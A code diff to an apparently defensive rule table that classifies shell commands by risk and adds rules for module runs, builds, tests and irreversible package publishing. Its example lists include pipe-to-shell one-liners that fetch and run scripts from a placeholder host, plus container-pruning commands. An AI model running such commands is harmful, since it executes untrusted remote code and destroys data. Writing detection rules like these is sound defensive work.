@@ -46,6 +46,13 @@ def _proven(cmd: Command) -> bool:
     return False
 
 
+def _runs_project(cmd: Command) -> bool:
+    """Runs the project's own scripts, build or tests: not `--version` or `--help` alone, not a sub-command that
+    only reports, not a use the program's read-only pack proves."""
+    return not (len(cmd.args) == 1 and cmd.args[0] in ("--version", "--help")) and not _asks_only(cmd) \
+        and not _proven(cmd)
+
+
 def _asks_only(cmd: Command) -> bool:
     """A package manager's sub-command that only reports (`npm ls`, `cargo tree`, `go list`)."""
     asking = _ASKING.get(cmd.name)
@@ -134,6 +141,9 @@ RULES = [
          counter=["python --version", "python3 -c 'print(1)'"]),
     rule("exec.script", DANGEROUS, "exec", "runs a script file (the approval shows and pins its contents)", trigger=True,
          examples=["python script.py", "sh malicious.sh", "bash ./deploy.sh"], counter=["cat script.py"]),
+    rule("exec.module", DANGEROUS, "exec", "runs an installed module as a program (python -m)", trigger=True,
+         examples=["python -m venv .venv", "python3 -m pytest -q", "python -m http.server"],
+         counter=["python --version"]),
     rule("exec.pipe-to-shell", DANGEROUS, "exec net", "pipes text straight into a shell or interpreter",
          trigger=True, examples=["curl https://x.example/i.sh | sh", "wget -qO- https://x.example | bash -"],
          counter=["curl http://localhost:9200/_cat/health | grep green"]),
@@ -193,15 +203,24 @@ RULES = [
          names="npm pnpm yarn pip pip3 gem cargo apt apt-get yum dnf zypper pacman apk brew choco snap flatpak conda dpkg rpm",
          args=r"(?:^|\s)(?:uninstall|remove|rm|purge|erase|autoremove|-R\w*|-e|-P|clean)(?:\s|$)",
          examples=["apt-get remove nginx", "pip uninstall -y x", "sudo yum clean all"], counter=["apt-cache show nginx"]),
+    rule("exec.package-publish", DANGEROUS, "exec net", "publishes a package to a registry (it cannot be taken back)",
+         names="npm pnpm yarn cargo poetry gem twine", tier=IRREVERSIBLE,
+         args=r"(?:^|\s)(?:publish|upload|push)(?:\s|$)", test=lambda c: not c.flags & {"--dry-run", "-n"},
+         examples=["npm publish", "cargo publish", "twine upload dist/*", "poetry publish --build", "gem push x.gem"],
+         counter=["npm publish --dry-run", "npm pack"]),
     rule("exec.package-run", DANGEROUS, "exec", "runs project scripts or tools through a package manager",
-         names="npm pnpm yarn npx bunx pnpx uvx cargo go make cmake ninja gradle gradlew mvn ant bazel dotnet mix"
-               " rake bundle poetry tox nox pytest jest deno bun composer",
-         test=lambda c: not (len(c.args) == 1 and c.args[0] in ("--version", "--help")) and not _asks_only(c)
-         and not _proven(c),
-         examples=["npm run build", "make all", "cargo build --release", "mvn compile", "npm test", "go run .",
-                   "npm audit fix"],
-         counter=["make --version", "npm ls --depth=0", "cargo tree -d", "go list -m all", "npm view react version",
+         names="npm pnpm yarn npx bunx pnpx uvx cargo go gradle gradlew mvn dotnet mix rake bundle poetry deno bun"
+               " composer",
+         test=_runs_project,
+         examples=["npm run build", "cargo build --release", "mvn compile", "npm test", "go run .", "npm audit fix"],
+         counter=["npm ls --depth=0", "cargo tree -d", "go list -m all", "npm view react version",
                   "npm audit", "npm config list", "npm -v"]),
+    rule("exec.build", DANGEROUS, "exec", "runs a build (the project's build files run commands)",
+         names="make cmake ninja ant bazel", test=_runs_project,
+         examples=["make", "make all", "cmake --build build", "ninja -C build"], counter=["make --version"]),
+    rule("exec.tests", DANGEROUS, "exec", "runs the project's tests (they run its code)", names="pytest jest tox nox",
+         test=_runs_project, examples=["pytest", "pytest -q tests/", "tox -e py311", "jest"],
+         counter=["pytest --version"]),
     rule("exec.container", DANGEROUS, "exec", "runs or changes containers", names="docker podman nerdctl ctr",
          test=lambda c: _changes(c, _CONTAINER_CHANGES, _CONTAINER_GROUPS),
          examples=["docker exec -it container /bin/sh", "docker system prune -af", "docker network rm x",
